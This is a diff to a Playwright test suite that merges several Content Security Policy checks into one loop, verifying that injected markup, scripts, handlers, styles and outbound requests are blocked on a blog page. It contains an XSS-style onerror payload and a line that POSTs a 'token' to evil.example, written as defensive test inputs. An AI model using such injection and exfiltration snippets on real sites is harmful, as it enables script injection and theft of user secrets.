@@ -103,9 +103,10 @@ test.describe('content injected into a page', () => {
     return page.evaluate(() => ({ directives: [...new Set(window.violatedDirectives)], hasRun: 'hasRun' in window }));
   }
 
-  test.beforeEach(({ page }) => page.goto('/blog'));
-
-  test('no string becomes HTML, no script of another origin is loaded, and no event handler runs', async ({ page }) => {
+  test('no string becomes HTML, no script, event handler or style is injected, and no data is sent elsewhere', async ({
+    page,
+  }) => {
+    const heading = page.getByRole('heading', { level: 1 });
     const markup = () => {
       document.body.innerHTML = '<img src="/nothing" onerror="window.hasRun = true">';
     };
@@ -118,23 +119,23 @@ test.describe('content injected into a page', () => {
       image.src = '/nothing';
       document.body.append(image);
     };
-    for (const injection of [markup, script, handler]) {
-      expect(await inject(page, injection)).toEqual({ directives: ['require-trusted-types-for'], hasRun: false });
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    }
-  });
-
-  test('no data is sent to another host', async ({ page }) => {
-    const send = () => fetch('https://evil.example/', { method: 'POST', body: 'token' }).then(() => undefined);
-    expect(await inject(page, send as () => void)).toEqual({ directives: ['connect-src'], hasRun: false });
-  });
-
-  test('an injected style has no effect', async ({ page }) => {
+    const send = () => void fetch('https://evil.example/', { method: 'POST', body: 'token' }).catch(() => undefined);
     const attribute = () => document.querySelector('h1')?.setAttribute('style', 'color: rgb(1, 2, 3)');
-    expect((await inject(page, attribute as () => void)).directives).toEqual(['style-src-attr']);
-    await expect(page.getByRole('heading', { level: 1 })).not.toHaveCSS('color', 'rgb(1, 2, 3)');
-    const style = () => document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1{}' }));
-    expect((await inject(page, style as () => void)).directives).toEqual(['style-src-elem']);
+    const style = () =>
+      document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1{color:rgb(1,2,3)}' }));
+    await page.goto('/blog');
+    for (const [injection, directive] of [
+      [markup, 'require-trusted-types-for'],
+      [script, 'require-trusted-types-for'],
+      [handler, 'require-trusted-types-for'],
+      [send, 'connect-src'],
+      [attribute, 'style-src-attr'],
+      [style, 'style-src-elem'],
+    ] as const) {
+      expect(await inject(page, injection), String(injection)).toEqual({ directives: [directive], hasRun: false });
+      await expect(heading).toBeVisible();
+      await expect(heading).not.toHaveCSS('color', 'rgb(1, 2, 3)');
+    }
   });
 
   test('no other page may show this one in a frame', async ({ page }) => {
